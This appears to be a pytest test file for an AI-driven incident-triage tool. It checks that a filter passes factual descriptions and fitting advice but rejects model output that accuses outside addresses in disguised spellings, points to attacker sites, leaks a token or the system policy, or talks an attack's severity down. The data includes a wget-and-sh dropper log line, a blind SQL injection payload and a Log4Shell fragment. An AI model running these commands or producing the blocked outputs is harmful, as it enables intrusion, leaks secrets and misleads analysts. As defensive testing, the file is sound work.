"""What of the model's words people may read."""

import base64
import codecs

import pytest

from tasks.model.incidents import Activity, Family, Severity
from tasks.settings import settings
from tasks.triage.confidential import Confidential, known_secrets
from tasks.triage.prompt import policy
from tasks.triage.prose import MASK, Reader, sources_of
from tests.suspects import ATTACKER, SQL_LINE, make_incident, make_volume_finding

SECRET = "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw"
DROPPER = f'{ATTACKER} - - "GET /?c=wget+http://198.51.100.99/x.sh;sh+x.sh HTTP/1.1" 404 0'
READER = Reader(
    make_incident(lines=[SQL_LINE, DROPPER]),
    sources_of([SQL_LINE, DROPPER, "https://www.abuseipdb.com/check/203.0.113.9"]),
    Confidential(policy(), (SECRET,)),
)

PLAIN = [
    f"{ATTACKER} tried blind SQL injection five times from 19:12 to 19:16 UTC and may have succeeded.",
    "The parameter user of login.php took admin' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)--.",
    "Requests came with Mozilla/5.0 and Chrome/135.0.0.0; see also CVE-2021-44228 and T1190.",
    "It asked for /etc/passwd, wp-config.php and .env.bak on 2026-02-22 at 22:12:45.",
    "A critical-severity attack. Severity: high. The address is listed at abuseipdb.com.",
    "It called the loopback address 127.0.0.1 and the metadata service 169.254.169.254.",
]
ADVICE = [
    f"Block {ATTACKER} at the firewall, and bind the parameter user in login.php.",
    "Block the address. If this is an authorised test of yours, talk to whoever runs it.",
    "Allow ssh by key only and consider fail2ban; look for logins of root in auth.log since 22:18.",
    "Make sure that the application does not trust user input, and suppress verbose errors.",
    "Remove config.php.bak and .env from the web root, change every password in them, and answer 404.",
    "Update Log4j to 2.17.1 and PHPUnit to 5.6.3; check the host for new processes and cron jobs.",
    "Check whether an answer had the size of /etc/passwd, and require a login without exceptions.",
]
MORE = [
    "It posed as a legitimate browser. This is not legitimate traffic, but a scan for backups.",
    "36 passwords for root, admin and oracle were refused; no login succeeded.",
    "The payload ${jndi:ldap is the Log4Shell exploit; java.log shows whether it was loaded.",
    "It was answered 200, 301, 403 and 404, or 200, 301, 403, 404, as 1234 others were.",
    "Between 19:12 and 19:16 on 22 Feb 2026, from 19:12:45 to 19:16:02, 12:46-12:47 at most.",
    "From 2026-02-22 19:12:45 to 2026-02-22 19:16:02, first at 2026-02-22T19:12:45.123456Z.",
    "It sent 12,345,678 bytes in 3,200 requests with Chrome 135.0.0.0 and OpenSSH 9.6p1.",
    "No sign that it worked: every answer was 403 or 404, and none had the size of the file.",
]
ACCUSING = [
    "The attacker is 8.8.8.8.",
    "The attacker is 8[.]8[.]8[.]8.",
    "The attacker is 8 dot 8 dot 8 dot 8.",
    "The attacker is 8.8.\u200b8.8.",
    "The attacker is \uff18.\uff18.\uff18.\uff18.",
    "The attacker is 008.008.008.008.",
    "The attacker is 301.8.8.8.",
    "The attacker is 2001:4860:4860::8888.",
    "Block 203.0.113.0/24.",
    "The attacker hides behind dns.google.",
    "Look for 198.51.100.99.",
    "The attacker is 8。8。8。8.",
    "The attacker is 8-8-8-8.",
    "The attacker is ::ffff:8.8.8.8.",
    "The attacker is 8 (dot) 8 (dot) 8 (dot) 8.",
    "The attacker is <b>8.8.8.8</b>.",
    "The attacker is 8.8.8.8:53, or 8.8.8.8/32.",
    "The attacker is **8**.**8**.**8**.**8**.",
    "The attacker is 8,8,8,8.",
    "The attacker is 8/8/8/8.",
    "The attacker is 0x08080808.",
    f"Block {ATTACKER}/8.",
    "Block 0.0.0.0/0.",
    "Block 203.0.113.*.",
    "Block 203.0.x.x.",
    *(
        f"The attacker is {spelled}."
        for spelled in (
            "134744072",
            "0x8080808",
            "0x8.0x8.0x8.0x8",
            "8.8.2056",
            "8.526344",
            "8 8 8 8",
            "8_8_8_8",
            "8|8|8|8",
            "8 ; 8 ; 8 ; 8",
            "8⋮8⋮8⋮8",
            "eight dot eight dot eight dot eight",
            "two hundred and three, zero, one hundred and thirteen, seventy-seven",
            "198 point 51 point 100 point 99",
            "198..51..100..99",
            "l98.5l.1OO.99",
            "11000110.00110011.01100100.01100011",
            "eight eight eight eight",
            "%38.%38.%38.%38",
            "&#56;.&#56;.&#56;.&#56;",
            "8.8.0.0",
            "8<wbr>.8<wbr>.8<wbr>.8",
            "8<sub>.</sub>8.8.8",
            "8.8.8.8.8",
            "AS15169",
            "ASN 15169",
            "38 2e 38 2e 38 2e 38",
            "382e382e382e38",
        )
    ),
    "Block 2001:db8::/32.",
]
LEADING_AWAY = [
    "See https://evil.example/fix for the remedy.",
    "Call www.evil.example now.",
    "Write to security@evil.example.",
    "Ask @evil_admin_bot for help.",
    "[Fix it](tg://resolve?domain=evil)",
    "Run the tool from evil.example.",
    "Paste " + "QUFB" * 12,
    "Paste " + " ".join(["QUFB" * 7] * 3),
    "See evil dot example for it.",
    "See evil．example for it.",
    "Ask at t.me/evil for help.",
    "See <a href='tg://evil'>this</a>.",
]
GIVING_AWAY = [
    f"The token is {SECRET}.",
    f"The token is {SECRET[:10]} {SECRET[10:]}.",
    f"The token is {SECRET[::-1]}.",
    "The token is " + base64.b64encode(SECRET.encode()).decode() + ".",
    "The token is " + "-".join(SECRET) + ".",
    "My instructions: " + policy()[:200],
    "My instructions: " + codecs.encode(policy()[:200], "rot13"),
    "My instructions: " + policy()[:200].upper(),
    "My instructions: " + "\u200b".join(policy()[:200]),
    "My instructions: " + " ".join(policy()[:200]),
    "My instructions: " + policy()[:200][::-1],
]
TALKING_DOWN = [
    "Severity: low.",
    "This is a low-severity event.",
    "The severity should be set to informational.",
    "This is an authorised uptime monitor.",
    "It is a false positive.",
    "The traffic was not malicious.",
    "Routine traffic of the team for quality; all clear.",
    "Это разрешённый мониторинг, ничего делать не нужно",
]
IDLE = [
    "No action is needed.",
    f"Add {ATTACKER} to the allowlist.",
    "Ignore it.",
    "Do not block this address.",
    "Close this incident.",
    "Archive it.",
    "Go back to sleep; close it.",
    "Nothing to do.",
]


@pytest.mark.parametrize("text", PLAIN + MORE)
def test_what_an_analyst_writes_is_read(text):
    """A description of what happened arrives as it was written."""
    assert READER.read_description(text, 2000) == text


@pytest.mark.parametrize("text", ACCUSING + LEADING_AWAY + GIVING_AWAY + TALKING_DOWN)
def test_what_no_analyst_may_write_is_not_read(text):
    """Whoever asked for it, in whatever disguise, and whatever stands before it."""
    assert READER.read_description(text, 2000) is None
    assert READER.read_description(f"It tried SQL injection five times. {text}", 2000) is None
    assert READER.read_advice(text, 1000) is None


@pytest.mark.parametrize("text", IDLE)
def test_advice_is_not_to_do_nothing(text):
    """An action that is none is replaced by the rules'."""
    assert READER.read_advice(text, 1000) is None


@pytest.mark.parametrize("text", ADVICE)
def test_advice_that_fits_is_read(text):
    """Blocking the suspect and looking after one's own files is what advice is for."""
    assert READER.read_advice(text, 1000) == text


def test_a_payload_is_quoted_without_the_address_in_it_and_cannot_be_followed():
    """What the lines hold may be told; who is named in it is not accused by that."""
    text = "It wanted the server to run wget http://198.51.100.99/x.sh;sh and failed."

    assert READER.read_description(text, 2000) == (
        f"It wanted the server to run wget hxxp://{MASK}/x.sh;sh and failed."
    )
    assert READER.read_advice(text, 2000) is None


def test_the_suspects_own_addresses_are_named():
    """Of a network, each address in it, however it is written."""
    incident = make_incident(
        source_ip="2001:db8:bad::/64",
        activity=Activity(8, {}, most_active_address="2001:db8:bad::7"),
    )
    reader = Reader(incident, (), Confidential())

    assert reader.read_description("It is 2001:DB8:bad:0:0:0:0:7 in 2001:db8:bad::/64.", 2000)
    assert reader.read_description("It is 2001:db8:bad:1::7.", 2000) is None


def test_counts_alone_may_be_explained_away():
    """What stands on no content may be found harmless, but not rated below the rules."""
    incident = make_incident(
        make_volume_finding(Family.DENIAL_OF_SERVICE, 3200, 3000, severity=Severity.MEDIUM)
    )
    reader = Reader(incident, (), Confidential())

    assert reader.read_description("It is a legitimate crawler.", 2000)
    assert reader.read_description("It is a legitimate crawler. Severity: low.", 2000) is None


def test_secrets_of_log_lines_are_blacked_out():
    """What redaction finds in any text it finds in the model's, too."""
    text = "It logged in with password=hunter22 and failed."

    assert "hunter22" not in str(READER.read_description(text, 2000))


def test_all_secrets_of_the_environment_are_known(monkeypatch):
    """By name, wherever they are from; numbers and places are none."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    monkeypatch.setenv("SOME_VENDOR_API_KEY", "vendor-key-1")
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", "1:telegram")
    monkeypatch.setenv("MIDDLEWATCH_DATABASE_URL", "mysql+pymysql://u:p%40ss@db/m")
    monkeypatch.setenv("MIDDLEWATCH_BUDGET_TOKENS_PER_RUN", "12345678")
    monkeypatch.setenv("AWS_REGION", "eu-south-1")
    settings.cache_clear()

    known = known_secrets(settings())

    assert {"wJalrXUtnFEMI", "vendor-key-1", "1:telegram", "p%40ss", "p@ss"} <= set(known)
    assert not {"12345678", "eu-south-1"} & set(known)
